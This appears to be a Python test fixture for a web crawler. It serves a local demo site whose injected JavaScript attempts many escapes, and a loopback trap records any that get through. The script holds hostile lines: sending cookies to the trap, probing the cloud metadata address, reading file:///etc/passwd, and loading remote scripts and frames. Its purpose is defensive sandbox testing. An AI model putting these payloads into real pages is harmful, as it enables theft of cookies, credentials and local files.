"""A scripted stand-in site whose scripts do what no page should be let do."""

from __future__ import annotations

import socket
import threading
from dataclasses import replace

from wartaspider.demo import DemoSite
from wartaspider.demo.pages import Answer
from wartaspider.demo.scripted import APP
from wartaspider.demo.server import DemoServer

# Each of these would leave a mark at the trap, on the site or in a folder.
_DEEDS = """
(() => {{
  const trap = '{trap}', own = location.origin;
  const quietly = (deed) => {{ try {{ Promise.resolve(deed()).catch(() => 0); }} catch {{}} }};
  quietly(() => fetch(trap + '/fetch'));
  quietly(() => fetch(trap + '/with-cookies', {{ credentials: 'include', mode: 'no-cors' }}));
  quietly(() => fetch('http://169.254.169.254/latest/meta-data/'));
  quietly(() => fetch('file:///etc/passwd'));
  quietly(() => fetch(own + '/search?q=rahasia'));
  quietly(() => fetch(own + '/keluar'));
  quietly(() => navigator.sendBeacon(trap + '/beacon', 'isi'));
  quietly(() => {{ new WebSocket(trap.replace('http', 'ws') + '/ws'); }});
  quietly(() => {{ new EventSource(own + '/data/kejadian'); }});
  quietly(async () => {{
    const at = trap.replace('http://', '');
    const servers = ['stun:' + at, 'turn:' + at, 'turn:' + at + '?transport=tcp'];
    const call = new RTCPeerConnection({{ iceServers: servers.map(
      (urls) => ({{ urls, username: 'a', credential: 'b' }})) }});
    call.createDataChannel('a');
    await call.setLocalDescription(await call.createOffer());
  }});
  quietly(() => {{ new Worker(own + '/data/pekerja.js'); }});
  quietly(() => navigator.serviceWorker.register('/data/pekerja.js'));
  quietly(() => {{ window.open(trap + '/jendela'); }});
  quietly(() => {{ new Image().src = trap + '/img.png'; }});
  quietly(() => {{ new Image().src = own + '/assets/img/foto.png'; }});
  quietly(() => new FontFace('Huruf', 'url(' + own + '/assets/font/a.woff2)').load());
  const add = (tag, fields) => {{
    const element = Object.assign(document.createElement(tag), fields);
    document.body.append(element);
    return element;
  }};
  quietly(() => add('iframe', {{ src: 'file:///etc/passwd' }}));
  quietly(() => add('iframe', {{ src: trap + '/bingkai' }}));
  quietly(() => add('link', {{ rel: 'prefetch', href: trap + '/nanti' }}));
  quietly(() => add('link', {{ rel: 'stylesheet', href: trap + '/gaya.css' }}));
  quietly(() => add('script', {{ src: trap + '/naskah.js' }}));
  quietly(() => add('a', {{ href: '/data/unduh.bin', download: 'unduh.bin' }}).click());
  quietly(() => {{
    const form = add('form', {{ action: trap + '/kirim', method: 'post', target: '_blank' }});
    form.submit();
  }});
  quietly(() => fetch(own + '/data/kue?' + document.cookie));
  quietly(() => add('video', {{ src: own + '/assets/video/a.mp4', preload: 'auto' }}));
  quietly(() => {{ document.cookie = 'jejak=1; max-age=86400'; }});
  quietly(() => {{ new WebSocket(own.replace('http', 'ws') + '/data/ws'); }});
  setTimeout(() => {{ prompt('Sandi?'); confirm('Yakin?'); print(); }}, 10);
  if (location.pathname.startsWith('/read{leaving}/')) location.href = trap + '/pindah';
}})();
"""


class Trap:
    """A port of this machine, TCP and UDP, that notes whatever is said to it."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._packets.bind(self._socket.getsockname())
        threading.Thread(target=self._listen, daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self._socket.getsockname()[1]}"

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._packets.sendto(b"", self._packets.getsockname())

    def _receive(self) -> None:
        with self._packets:
            while packet := self._packets.recv(200):
                self.heard.append(packet)

    def _listen(self) -> None:
        while True:
            try:
                line, _ = self._socket.accept()
            except OSError:
                return
            with line:
                line.settimeout(1.0)
                try:
                    self.heard.append(line.recv(200))
                except OSError:
                    self.heard.append(b"")


class HostileServer(DemoServer):
    """A scripted site with such deeds in its script; one article's leads off the site."""

    def __init__(self, site: DemoSite, trap: str, leaving: int) -> None:
        super().__init__(site)
        self._deeds = _DEEDS.format(trap=trap, leaving=leaving).encode()

    def answer(self, path: str, query: str) -> tuple[Answer, bytes, bytes]:
        made, plain, packed = super().answer(path, query)
        if path == APP:
            return replace(made, max_age=None), self._deeds + plain, b""
        return made, plain, packed
